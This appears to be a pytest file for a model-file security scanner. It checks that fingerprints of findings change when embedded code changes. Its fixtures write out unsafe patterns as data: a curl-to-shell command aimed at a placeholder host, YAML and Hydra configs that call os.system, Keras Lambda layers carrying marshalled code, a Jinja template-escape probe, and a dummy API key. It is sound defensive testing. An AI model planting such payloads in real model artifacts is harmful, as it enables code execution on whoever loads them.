"""A waiver of code in a text lapses when the code changes, though the same things are named."""

from __future__ import annotations

import base64
import json
import marshal

import pytest

from modelwarden.artifacts import examine
from modelwarden.formats import Limits, Source
from torchfiles import checkpoint, package


def keras(number: int) -> bytes:
    code = base64.b64encode(marshal.dumps(compile(f"{number}", "x", "eval"))).decode()
    function = {"class_name": "__lambda__", "config": {"code": code}}
    layer = {"class_name": "Lambda", "module": "keras.layers", "config": {"function": function}}
    model = {"class_name": "Sequential", "module": "keras", "config": {"layers": [layer]}}
    return json.dumps(model).encode()


def yaml(number: int) -> bytes:
    return f'a: !!python/object/apply:os.system ["true {number}"]\n'.encode()


def template(number: int) -> bytes:
    return b"{{ messages.__class__.a%d }}\n" % number


def keras_reference(number: int) -> bytes:
    thing = {"module": "os", "class_name": "function", "config": "system"}
    layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": thing}}
    layer["config"]["arguments"] = {"command": f"true {number}"}
    return json.dumps(layer).encode()


def hydra(target: str):
    return lambda number: f"a:\n  _target_: {target}\n  args: [true {number}]\n".encode()


def command(number: int) -> bytes:
    """A command whose shown part stays the same."""
    padding = "x" * 150
    return json.dumps({"run": f"curl http://a.invalid/{padding}/{number} | sh"}).encode()


def packed(number: int) -> bytes:
    return package({"net.py": f"x = {number}\n".encode()})


def scripted(call: str):
    def make(number: int, root: str = "archive") -> bytes:
        code = f"def forward(self, x):\n  return {call}(x, {number})\n".encode()
        return checkpoint(**{"code/__torch__/net.py": code}).replace(
            b"archive/", f"{root}/".encode()
        )

    return make


def program(number: int) -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0" + bytes([number]) * 200


def secret(number: int) -> bytes:
    """A secret that begins as another one."""
    return json.dumps({"api_key": f"gk9Xw2Lq7Rt4Vb8Nz3Hd6Jf1Mc5Ps{number}Ty0"}).encode()


@pytest.mark.parametrize(
    ("name", "make", "rule"),
    [
        ("settings.json", secret, "config-secret"),
        ("config.json", keras_reference, "keras-unsafe-reference"),
        ("config.yaml", hydra("os.system"), "config-target"),
        ("config.yaml", hydra("somepackage.thing"), "config-foreign-target"),
        ("config.json", command, "config-command"),
        ("model.pt", packed, "torch-package-code"),
        ("model.pt", scripted("torch.add"), "torchscript-code"),
        ("model.pt", scripted("torch.save"), "torchscript-file-access"),
        ("model.so", program, "native-code"),
        ("config.json", keras, "keras-lambda"),
        ("config.yaml", yaml, "yaml-python-tag"),
        ("chat_template.jinja", template, "template-escape"),
    ],
)
def test_changed_code_has_another_fingerprint(name: str, make, rule: str):
    first, again, second = (fingerprints(name, make(number), rule) for number in (1, 1, 2))

    assert first
    assert first == again
    assert not set(first) & set(second)


@pytest.mark.parametrize(
    ("call", "rule"),
    [("torch.add", "torchscript-code"), ("torch.save", "torchscript-file-access")],
)
def test_the_name_of_the_folder_in_a_torch_file_does_not_count(call: str, rule: str):
    first, second = (scripted(call)(1, root) for root in ("archive", "epoch_7"))

    assert first != second
    assert fingerprints("model.pt", first, rule) == fingerprints("model.pt", second, rule) != []


def fingerprints(name: str, data: bytes, rule: str) -> list[str]:
    found = examine(Source(name, data), Limits()).findings
    return [one.fingerprint for one in found if one.rule == rule]
